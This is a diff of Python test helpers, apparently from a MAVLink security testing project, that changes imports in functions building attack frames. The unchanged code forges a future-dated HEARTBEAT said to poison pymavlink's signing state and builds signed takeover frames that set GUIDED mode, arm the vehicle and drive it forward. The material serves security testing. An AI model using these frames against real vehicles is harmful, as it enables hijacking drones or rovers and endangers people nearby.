@@ -33,10 +33,10 @@ def signer(key: bytes, sysid: int, compid: int, link_id: int, timestamp: int):
     """A MAVLink 2 sender of ``sysid/compid`` signing with ``key`` from ``timestamp``, link ``link_id``; its frames
     in the returned :class:`Frames` (the attack rows and tests/integration/test_mavlink_signing.py,
     tests/integration/test_sitl.py)."""
-    from pymavlink import mavutil
+    from sim_learner.mavlink_dialect import mavutil_v2
 
     out = Frames()
-    mav = mavutil.mavlink.MAVLink(out, srcSystem=sysid, srcComponent=compid)
+    mav = mavutil_v2().mavlink.MAVLink(out, srcSystem=sysid, srcComponent=compid)
     mav.signing.secret_key, mav.signing.sign_outgoing = key, True
     mav.signing.link_id, mav.signing.timestamp = link_id, timestamp
     return mav, out
@@ -47,11 +47,10 @@ def forged_heartbeat(sysid: int, compid: int, link_id: int = 0, *, key: bytes = 
     """One HEARTBEAT on the signing stream ``sysid/compid/link_id``, signed with a key that is not the link's
     (``key``, default all zeros) and stamped ten years ahead of ``now`` (default the signing wall clock): the packet
     that poisoned pymavlink's signing state (docs/SECURITY.md). A rover's heartbeat, or a ground station's (``gcs``)."""
-    from pymavlink import mavutil
-
+    from sim_learner.mavlink_dialect import mavutil_v2
     from sim_learner.mavlink_signing import signing_wall_clock
 
-    mav = mavutil.mavlink
+    mav = mavutil_v2().mavlink
     forger, out = signer(key, sysid, compid, link_id, (signing_wall_clock() if now is None else now) + TEN_YEARS)
     if gcs:
         forger.heartbeat_send(mav.MAV_TYPE_GCS, mav.MAV_AUTOPILOT_INVALID, 0, 0, 0)
@@ -64,12 +63,11 @@ def takeover_frames(key: bytes, sysid: int, compid: int) -> list[bytes]:
     """What a ground station (255/190, signing link 7) signed with ``key`` says now to take the vehicle
     ``sysid/compid`` over: GUIDED, arm, then ten forward set-points at 0.3 m/s; the frames, as the wire carries them
     (the recording a replay is made of)."""
-    from pymavlink import mavutil
-
+    from sim_learner.mavlink_dialect import mavutil_v2
     from sim_learner.mavlink_rover import GUIDED
     from sim_learner.mavlink_signing import signing_wall_clock
 
-    mav = mavutil.mavlink
+    mav = mavutil_v2().mavlink
     gcs, out = signer(key, 255, 190, 7, signing_wall_clock())
     custom = mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED
     gcs.command_long_send(sysid, compid, mav.MAV_CMD_DO_SET_MODE, 0, custom, GUIDED, 0, 0, 0, 0, 0)
